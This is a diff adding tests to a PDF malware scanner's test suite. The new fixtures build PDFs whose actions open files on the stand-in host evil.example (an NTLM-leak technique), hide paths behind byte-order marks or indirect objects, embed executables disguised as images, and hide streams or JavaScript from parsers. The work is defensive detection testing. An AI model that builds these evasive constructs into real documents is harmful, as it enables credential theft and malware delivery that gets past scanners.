@@ -105,6 +105,21 @@ describe('PDF check: what runs or reaches out', () => {
       'pdf-remote-file',
     ],
     ['/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>', 'pdf-remote-file'],
+    // GoToE and Thread name a file to open as GoToR does (the NTLM leak of CVE-2018-4993 used both kinds).
+    [
+      '/OpenAction << /S /GoToE /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+      'pdf-remote-file',
+    ],
+    ['/OpenAction << /S /Thread /F (//evil.example/share/x.pdf) /D 0 >>', 'pdf-remote-file'],
+    // A path behind a byte-order mark: UTF-8 (PDF 2.0) and UTF-16LE, which readers decode.
+    [
+      '/OpenAction << /S /GoToR /F (\xef\xbb\xbf//evil.example/share/x.pdf) /D [0 /Fit] >>',
+      'pdf-remote-file',
+    ],
+    [
+      `/OpenAction << /S /GoToR /F (\xff\xfe${Buffer.from('//evil.example/s/x.pdf', 'utf16le').toString('latin1')}) /D [0 /Fit] >>`,
+      'pdf-remote-file',
+    ],
     ['/Annots [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]', 'pdf-richmedia'],
   ])('refuses %s', async (extra, rule) => {
     const r = await scan(buildPdf({ catalogExtra: extra }));
@@ -133,6 +148,21 @@ describe('PDF check: what runs or reaches out', () => {
     });
     expect((await scan(pdf)).rules).toContain('pdf-remote-file');
   });
+
+  it.each([
+    ['/F', '<< /Type /Filespec /F 8 0 R >>'],
+    ['/UF', '<< /Type /Filespec /F (annex.pdf) /UF 8 0 R >>'],
+  ])(
+    'refuses a GoToR whose file name in %s is an object of its own, which it does not follow',
+    async (_, spec) => {
+      // Readers resolve the reference to the string (MuPDF opens file://\\attacker\share\x.pdf).
+      const pdf = buildPdf({
+        catalogExtra: '/OpenAction << /S /GoToR /F 7 0 R /D [0 /Fit] >>',
+        objects: [spec, '(\\\\\\\\evil.example\\\\share\\\\x.pdf)'],
+      });
+      expect((await scan(pdf)).rules).toEqual(['pdf-remote-file']);
+    },
+  );
 
   it.each([
     ['a path beside it', '<< /F (annex.pdf) >>', 'clean'],
@@ -413,6 +443,69 @@ describe('PDF check: forms, attachments, encryption', () => {
     expect((await scan(buildPdf(embedded('cv.pdf', buildPdf())))).kind).toBe('clean');
   });
 
+  it('inspects a stream that /EF names even without /Type /EmbeddedFile, which is optional', async () => {
+    const untyped = (name: string, data: Buffer) => ({
+      catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
+      objects: [
+        { dict: '/Filter /FlateDecode', data: deflateSync(data) },
+        `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 7 0 R >> >>`,
+      ],
+    });
+    expect((await scan(buildPdf(untyped('invoice.exe', samples.pe)))).rules).toEqual(['pdf-embedded-file']);
+    expect((await scan(buildPdf(untyped('photo.png', samples.png)))).kind).toBe('clean');
+  });
+
+  it('inspects every copy of an attachment whose object number is given twice', async () => {
+    // The cross-reference table points at the first copy (the program); the second is a picture.
+    const pdf = buildPdf(embedded('photo.png', samples.pe));
+    const copy = Buffer.from(
+      `7 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length ${deflateSync(samples.png).length} >>\nstream\n`,
+      'latin1',
+    );
+    const at = pdf.indexOf('xref\n');
+    const twice = Buffer.concat([
+      pdf.subarray(0, at),
+      copy,
+      deflateSync(samples.png),
+      Buffer.from('\nendstream\nendobj\n'),
+      pdf.subarray(at),
+    ]);
+    expect((await scan(twice)).details.join(' ')).toContain(
+      'attached file that is not accepted (photo.png, object 7)',
+    );
+  });
+
+  it('refuses an attachment, a form or a hybrid document whose stream it cannot find or that hides in other data', async () => {
+    // /EF names object 7, which is hidden inside the data of object 6 (a reader follows the
+    // cross-reference table there); the same with nothing there at all.
+    const hidden = buildPdf({ padTo: 4000, ...embedded('invoice.exe', samples.pe) });
+    const seven = hidden.indexOf('7 0 obj');
+    const into = hidden.indexOf('AAAA') + 100;
+    const moved = Buffer.from(hidden);
+    moved.write('7 0 obj << /Length 2 >> stream\nMZ\nendstream endobj', into, 'latin1');
+    moved.write('9', seven, 'latin1');
+    expect((await scan(moved)).details).toContain(
+      'The PDF hides a stream of its attached file invoice.exe (object 7) inside other data, where the check does not read it.',
+    );
+    const missing = buildPdf({
+      catalogExtra: '/AcroForm << /Fields [] /XFA [(template) 12 0 R] >>',
+    });
+    expect((await scan(missing)).details).toEqual([
+      'The PDF names its XFA form (object 12), but the check found no stream of that number to read.',
+    ]);
+  });
+
+  it('reads an object stream whose header separates numbers with NUL, as readers do', async () => {
+    const body = '<< /Type /Annot >> << /S /JavaScript /JS (app.alert(1)) >>';
+    const header = '9\u00000\u000010\u000019\u0000';
+    const data = deflateSync(Buffer.from(header + body, 'latin1'));
+    const pdf = buildPdf({
+      catalogExtra: '/OpenAction 10 0 R',
+      objects: [{ dict: `/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`, data }],
+    });
+    expect((await scan(pdf)).details).toEqual(['The PDF contains a JavaScript action (object 10).']);
+  });
+
   it('refuses a PDF whose catalog is broken by one byte where it names JavaScript', async () => {
     const pdf = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' });
     // `<<` of the catalog becomes `\0<`: the dictionary now reads as a broken hex string that
@@ -567,7 +660,7 @@ describe('PDF check: forms, attachments, encryption', () => {
     expect(hits.map((h) => [h.rule, h.detail])).toEqual([
       [
         'pdf-embedded-file',
-        'The PDF has too many streams to read the application/vnd.oasis.opendocument.text document LibreOffice opens in place of the PDF (object 5).',
+        'The PDF has too many streams (over 200000) to read the application/vnd.oasis.opendocument.text document LibreOffice opens in place of the PDF (object 5).',
       ],
     ]);
   }, 30_000);
